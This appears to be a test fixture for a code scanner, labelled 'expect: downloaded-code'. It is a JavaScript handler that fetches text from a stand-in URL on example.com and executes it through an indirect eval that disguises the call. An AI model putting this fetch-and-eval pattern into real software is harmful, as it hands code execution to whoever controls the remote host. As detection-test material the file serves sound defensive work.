// expect: downloaded-code
const run = (0, eval);

module.exports = async (event) => {
  const answer = await fetch("https://example.com/plugin");
  run(await answer.text());
};
